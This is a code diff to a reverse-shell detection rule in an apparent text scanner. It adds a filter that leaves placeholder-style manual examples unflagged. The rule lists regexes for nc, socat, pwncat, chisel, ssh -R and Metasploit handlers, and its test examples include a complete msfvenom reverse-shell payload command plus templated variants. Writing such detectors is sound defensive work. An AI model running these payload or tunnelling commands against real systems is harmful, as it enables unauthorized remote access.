@@ -1,4 +1,5 @@
-import type { Rule } from '../../rule.js';
+import { hasHole } from '../../checks/documentation.js';
+import type { Candidate, Rule } from '../../rule.js';
 
 /**
  * A shell with nothing but options and what it reads; not one that runs a script, nor the language of a block of code. A
@@ -6,6 +7,9 @@ import type { Rule } from '../../rule.js';
  */
 const IS_PIPED =
   /(?<![\w.-])(?:ba|z|da|k)?sh(?:[ \t]+-\w+|[ \t]*\d?[<>]{1,2}[ \t]*&?[ \t]*[\w./-]+)*[ \t]*\|\s*(?:\/\w+\/)*(?:nc|ncat|telnet|openssl\s+s_client|socat)\s$/;
+
+/** Not an example of a manual, which leaves the host out: `LHOST={{local_ip}}`, `chisel client {{server}}:{{port}} R:socks`. */
+const isComplete = ({ text, after }: Candidate): boolean => !hasHole(text + (after.split('\n', 1)[0] ?? ''));
 
 export const rule: Rule = {
   pattern: 'reverse_shell',
@@ -54,16 +58,21 @@ export const rule: Rule = {
     { re: /\/inet6?\/tcp\/\d{1,5}\/0\/0["'][^]*?\|&\s?getline/, window: 300 },
     { re: /using\sSockets[^]*?connect\([^]*?run\((?:pipeline\()?/, window: 500 },
     { re: /(?<![\w-])curl\s[^\n|]*telnet:\/\/[^\n]*(?:sh|fifo)/, window: 200 },
-    { re: /(?<![\w-])(?:sbd|cryptcat|pwncat(?:-cs)?|rustcat|rcat)\s[^\n|;]*(?:-e|-c|-s|-lp)\s+\S/, window: 200 },
+    {
+      re: /(?<![\w-])(?:sbd|cryptcat|pwncat(?:-cs)?|rustcat|rcat)\s[^\n|;]*(?:-e|-c|-s|-lp)\s+\S/,
+      window: 200,
+      accept: isComplete,
+    },
     {
       re: /(?<![\w-])(?:chisel|gost|frpc|ligolo|ligolo-ng|revsocks)(?:\.exe)?\s+(?:client\s[^\n]*R:|-L\s|-connect\s|-c\s)/,
       window: 200,
+      accept: isComplete,
     },
     { re: /(?<![\w-])ssh\s[^\n|;]*-[fnNT]*[fN][fnNT]*R\s*(?:\d|\*:|0\.0\.0\.0:)/, window: 240 },
     { re: /(?<![\w-])ssh\s[^\n|;]*-R\s*(?:\d|\*:|0\.0\.0\.0:)[^\n|;]*(?:-N|-f|StrictHostKeyChecking=no)/, window: 240 },
-    { re: /(?<![\w-])msfvenom\s[^\n]*(?:LHOST|lhost|RHOST|-p\s+\w+\/)/, window: 300 },
-    { re: /(?:meterpreter|shell)_(?:reverse|bind)_(?:tcp|https?)(?!\w)/ },
-    { re: /exploit\/multi\/handler|windows\/(?:x64\/)?(?:meterpreter|shell)\/\w+_tcp/ },
+    { re: /(?<![\w-])msfvenom\s[^\n]*(?:LHOST|lhost|RHOST|-p\s+\w+\/)/, window: 300, accept: isComplete },
+    { re: /(?:meterpreter|shell)_(?:reverse|bind)_(?:tcp|https?)(?!\w)/, accept: isComplete },
+    { re: /exploit\/multi\/handler|windows\/(?:x64\/)?(?:meterpreter|shell)\/\w+_tcp/, accept: isComplete },
   ],
   examples: {
     fires: [
@@ -85,6 +94,9 @@ export const rule: Rule = {
       'msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.7 LPORT=4444 -f elf',
     ],
     silent: [
+      'msfvenom -p linux/x64/meterpreter/reverse_tcp LHOST={{local_ip}} LPORT={{local_port}} -f elf -o {{path/to/binary}}',
+      'msfvenom -p windows/x64/meterpreter/reverse_tcp LHOST={{local_ip}} LPORT={{local_port}} -f exe',
+      'chisel client {{server_ip}}:{{server_port}} R:socks',
       '```bash\necho | openssl s_client -connect example.com:443 -showcerts\n```',
       'sh ./report.sh --all | nc graphite.example 2003',
       'client = createRSocketTcpClient();\nassertThat(server).isNotNull();\nserver.start();',
